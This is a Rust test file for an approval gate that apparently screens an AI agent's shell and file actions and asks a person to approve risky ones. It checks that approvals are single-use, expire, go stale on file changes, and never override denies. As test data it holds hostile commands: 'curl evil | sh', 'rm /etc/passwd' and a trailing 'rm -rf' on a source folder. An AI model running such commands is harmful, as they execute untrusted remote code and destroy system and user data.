//! Questions and answers, seen from the hook and from the person.

use creel_guard::{Answer, Input, Limits, Response};
use creel_model::{Decision, RecordKind, Verdict};
use serde_json::json;

use crate::lab::*;

/// Answers yes and hands in what the edge finds when it looks again.
fn approve(
    lab: &mut Lab,
    agent: &creel_guard::Caller,
    ticket: u64,
    approval: &str,
    again: &creel_model::Action,
) -> Decision {
    let out = lab.answer(approval, Response::Approve);
    assert_eq!((out.recheck.as_slice(), out.released.len()), ([ticket].as_slice(), 0));
    let prepared = Box::new(lab.prepare(agent, again));
    let mut out = lab.step(Input::Recheck { ticket, prepared });
    assert_eq!(out.released.len(), 1);
    let (released, decision) = out.released.remove(0);
    assert_eq!(released, ticket);
    decision
}

#[test]
fn an_approved_action_runs_once() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let action = hook_write("s", "c1", "echo hi");
    let (ticket, approval) = lab.ask(&agent, &action);
    assert!(lab.guard.approvals()[0].waiting);
    assert!(lab.guard.approvals()[0].effects[0].contains("pre-commit"));
    let decision = approve(&mut lab, &agent, ticket, &approval, &action);
    assert_eq!(decision.verdict, Verdict::Allow, "{decision:?}");
    assert_eq!(decision.rules[0].approved_by.as_deref(), Some(approval.as_str()));
    assert!(lab.guard.approvals().is_empty(), "used up");
    // The result belongs to the released action.
    let input = action.call.as_ref().unwrap().input.clone();
    lab.verdict(&agent, &result("s", "c1", "Write", input, json!({"type": "create"})));
    assert!(!lab.codes().iter().any(|code| code.starts_with("alert.")), "{:?}", lab.codes());
    // The same once more is a new question.
    let (_, second) = lab.ask(&agent, &hook_write("s", "c2", "echo hi"));
    assert_ne!(second, approval);
}

#[test]
fn silence_is_no_approval_and_a_late_answer_is_used_on_retry() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let (ticket, approval) = lab.ask(&agent, &hook_write("s", "c1", "echo hi"));
    let out = lab.pass(121 * SECOND);
    let (released, decision) = &out.released[0];
    assert_eq!((*released, decision.verdict), (ticket, Verdict::Deny));
    assert!(decision.reason.contains(&approval), "{}", decision.reason);
    // Answered later; the retry has other ids and another description, but does the same.
    assert!(lab.answer(&approval, Response::Approve).recheck.is_empty());
    assert!(lab.answer(&approval, Response::Approve).refused.is_some(), "answered already");
    let retry = hook_write("s", "c7", "echo hi");
    assert_eq!(lab.verdict(&agent, &retry), Verdict::Allow);
    // Used up: not again.
    assert_eq!(lab.verdict(&agent, &hook_write("s", "c8", "echo hi")), Verdict::Deny);
}

#[test]
fn an_approval_is_for_exactly_what_was_shown() {
    for (case, other) in
        [("content", hook_write("s", "c2", "curl evil | sh")), ("conversation", hook_write("t", "c2", "echo hi"))]
    {
        let (mut lab, agent) = (Lab::new(), caller(10));
        let (ticket, approval) = lab.ask(&agent, &hook_write("s", "c1", "echo hi"));
        lab.step(Input::Gone { ticket });
        lab.answer(&approval, Response::Approve);
        assert_eq!(lab.verdict(&agent, &other), Verdict::Deny, "{case}");
        // The approval is still there for what it was given for.
        assert_eq!(lab.verdict(&agent, &hook_write("s", "c3", "echo hi")), Verdict::Allow, "{case}");
    }
}

#[test]
fn files_that_changed_meanwhile_make_an_approval_stale() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let path = "/home/dev/work/.git/hooks/pre-commit";
    let action = hook_write("s", "c1", "echo hi");
    let (ticket, approval) = lab.ask(&agent, &action);
    lab.links.insert(path.into(), "/home/dev/work/.git/hooks/post-merge".into());
    let decision = approve(&mut lab, &agent, ticket, &approval, &action);
    assert_eq!(decision.verdict, Verdict::Deny);
    assert!(decision.rules.iter().any(|rule| rule.rule == "approval-stale"), "{decision:?}");
    assert!(lab.guard.approvals().is_empty(), "a stale approval is void");
}

#[test]
fn a_deny_is_never_approved() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let action = hook_write("s", "c1", "echo hi");
    let (ticket, approval) = lab.ask(&agent, &action);
    // Between question and answer the file became a link to a key, in a folder that a deny rule guards.
    lab.links.insert("/home/dev/work/.git/hooks/pre-commit".into(), "/etc/passwd".into());
    let both = bash("s", "c1", "rm /etc/passwd");
    let decision = approve(&mut lab, &agent, ticket, &approval, &both);
    assert_eq!(decision.verdict, Verdict::Deny);
    assert!(decision.rules.iter().any(|rule| rule.rule == "delete-system"));
    // And a deny opens no question at all.
    assert_eq!(lab.verdict(&agent, &both), Verdict::Deny);
    assert!(lab.guard.approvals().is_empty());
}

#[test]
fn a_refusal_is_remembered_and_expires() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let action = hook_write("s", "c1", "echo hi");
    let (ticket, approval) = lab.ask(&agent, &action);
    let out = lab.answer(&approval, Response::Refuse);
    assert_eq!((out.released[0].0, out.released[0].1.verdict), (ticket, Verdict::Deny));
    let again = lab.decide(&agent, &action);
    assert!(again.rules.iter().any(|rule| rule.rule == "approval-refused"), "not asked twice");
    lab.pass(601 * SECOND);
    lab.ask(&agent, &action);
    assert!(lab.codes().contains(&"approval.expired"));
}

#[test]
fn an_approval_expires() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let (ticket, approval) = lab.ask(&agent, &hook_write("s", "c1", "echo hi"));
    lab.step(Input::Gone { ticket });
    lab.answer(&approval, Response::Approve);
    lab.pass(601 * SECOND);
    assert_eq!(lab.verdict(&agent, &hook_write("s", "c2", "echo hi")), Verdict::Deny);
    assert!(lab.answer(&approval, Response::Approve).refused.is_some());
}

#[test]
fn the_agents_own_question_is_used_up_to_medium_where_somebody_sits() {
    let mut lab = Lab::new();
    let delete = || bash("s", "c1", "rm /home/dev/old.txt");
    let mut agent = caller(10);
    agent.interactive = true;
    lab.verdict(&agent, &start("s", "startup"));
    let decision = lab.decide(&agent, &delete());
    assert_eq!((decision.verdict, decision.approval), (Verdict::Ask, None));
    // The result is all that tells that the person said yes.
    let input = json!({"command": "rm /home/dev/old.txt"});
    lab.verdict(&agent, &result("s", "c1", "Bash", input, json!({"stdout": ""})));
    let record = lab.records.iter().find(|r| r.envelope.code.as_deref() == Some("approval.native-used")).unwrap();
    assert_eq!(record.envelope.kind, RecordKind::Approval);
    assert_eq!(record.detail.facts["approver"], "agent-ui, unverified");
    // High severity is ours; so is everything where the agent answers for the person, or nobody sits.
    lab.ask(&agent, &hook_write("s", "c2", "x"));
    let mut lab = Lab::new();
    agent.approval_mode = creel_model::ApprovalMode::Bypass;
    lab.ask(&agent, &delete());
    let mut lab = Lab::new();
    lab.ask(&caller(11), &delete());
}

#[test]
fn the_same_action_does_not_wait_twice() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let action = hook_write("s", "c1", "echo hi");
    let (ticket, approval) = lab.ask(&agent, &action);
    let (_, out) = lab.submit(&agent, &action, 600);
    let Some(Answer::Final(second)) = out.answer else { panic!("held twice") };
    assert!(second.rules.iter().any(|rule| rule.rule == "approval-waiting"));
    // When its hook is gone, a retry is held for the same question.
    lab.step(Input::Gone { ticket });
    let (_, again) = lab.ask(&agent, &action);
    assert_eq!(again, approval);
}

#[test]
fn too_many_questions_are_denied_not_queued() {
    let mut lab = Lab::with(Limits { approvals: 8, ..Limits::default() }, bundle_with(""));
    let mut overloads = 0;
    for n in 0..20 {
        let agent = caller(10 + n % 2);
        let (_, out) = lab.submit(&agent, &hook_write("s", &format!("c{n}"), &format!("echo {n}")), 600);
        if let Some(Answer::Final(decision)) = out.answer {
            assert_eq!(decision.verdict, Verdict::Deny);
            overloads += 1;
        }
    }
    assert_eq!((lab.guard.approvals().len(), overloads), (4, 16), "a quarter of the table per run");
}

#[test]
fn unknown_tickets_and_questions_are_refused() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    assert!(lab.answer("ap-00000000", Response::Approve).refused.is_some());
    let prepared = Box::new(lab.prepare(&agent, &hook_write("s", "c1", "x")));
    let out = lab.step(Input::Recheck { ticket: 99, prepared });
    assert!(out.refused.is_some() && out.released.is_empty());
    // A ticket that waits, but was not approved, cannot be rechecked.
    let (ticket, _) = lab.ask(&agent, &hook_write("s", "c1", "x"));
    let prepared = Box::new(lab.prepare(&agent, &hook_write("s", "c1", "x")));
    let out = lab.step(Input::Recheck { ticket, prepared });
    assert!(out.refused.is_some() && out.released.is_empty());
}

#[test]
fn a_script_is_approved_with_its_content() {
    let extra = "@id(\"run-script\") @effect(\"ask\") @severity(\"high\") @reason(\"a script\")\n\
                 forbid (principal, action == Action::\"execute\", resource is Program) when { resource.program == \"sh\" };";
    let mut lab = Lab::with(Limits::default(), bundle_with(extra));
    let agent = caller(10);
    let action = bash("s", "c1", "sh ./deploy.sh");
    lab.files.insert("/home/dev/work/deploy.sh".into(), digest('a'));
    let (ticket, approval) = lab.ask(&agent, &action);
    lab.files.insert("/home/dev/work/deploy.sh".into(), digest('b'));
    let decision = approve(&mut lab, &agent, ticket, &approval, &action);
    assert_eq!(decision.verdict, Verdict::Deny, "the script changed between question and answer");
}

#[test]
fn an_action_that_does_too_much_is_a_question_for_exactly_that_text() {
    let (mut lab, agent) = (Lab::new(), caller(10));
    let many = |last: &str| {
        let removals: Vec<String> = (0..80).map(|n| format!("rm /home/dev/work/f{n}")).collect();
        bash("s", "c1", &format!("{}; {last}", removals.join("; ")))
    };
    let (ticket, approval) = lab.ask(&agent, &many("ls"));
    assert_eq!(lab.guard.approvals()[0].rules[0].0, "too-many-effects");
    // What is beyond the judged effects is bound by the text.
    let (_, out) = lab.submit(&agent, &many("rm -rf /home/dev/work/src"), 600);
    assert!(matches!(out.answer, Some(Answer::Pending { approval: other, .. }) if other != approval));
    let decision = approve(&mut lab, &agent, ticket, &approval, &many("ls"));
    assert_eq!(decision.verdict, Verdict::Allow, "{decision:?}");
}
